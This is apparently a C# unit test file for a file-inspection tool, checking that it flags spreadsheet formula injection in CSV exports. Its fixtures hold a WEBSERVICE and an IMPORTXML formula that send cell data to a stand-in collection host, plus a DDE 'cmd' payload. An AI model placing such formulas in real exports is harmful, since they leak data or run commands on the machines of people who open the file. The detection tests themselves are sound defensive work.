using System.Text;

namespace Vigie.Inspection.Tests.Text;

/// <summary>A CSV export whose cell fetches a URL when a spreadsheet computes it, with the other cells in it.</summary>
public sealed class CsvFetchTests
{
    [Fact]
    public async Task Regression_a_csv_cell_that_sends_the_sheet_to_a_url_by_webservice_was_clean()
    {
        var csv = "nom;prenom;ipp\nDUPONT;JEANNE;123456\n\"=WEBSERVICE(\"\"https://collect.example.invalid/?d=\"\"&A2&B2&C2)\";x;y\n";
        var verdict = await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(csv), "export.csv");

        verdict.IsSuspicious();
        Assert.Contains("line 3", verdict.Has("csv.external-fetch").Message, StringComparison.Ordinal);

        var sheets = "a,b\n=IMPORTXML(CONCAT(\"https://collect.example.invalid/?\",A1),\"//a\"),1\n";
        (await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(sheets), "export.csv")).Has("csv.external-fetch");
    }

    [Fact]
    public async Task The_function_named_in_plain_text_or_a_dde_cell_after_it_are_told_apart()
    {
        (await TestInspection.InspectAsync("Les résultats sont importés par le WEBSERVICE du laboratoire (IMPORT nocturne).\n"u8.ToArray(), "note.txt")).IsClean();

        var both = "a,b\n=WEBSERVICE(\"https://x.example.invalid/\"),1\n=cmd|' /C calc'!A0,2\n";
        var verdict = await TestInspection.InspectAsync(Encoding.UTF8.GetBytes(both), "export.csv");
        verdict.Has("csv.external-fetch");
        verdict.Has("csv.dde-injection");
        verdict.IsMalicious();
    }
}
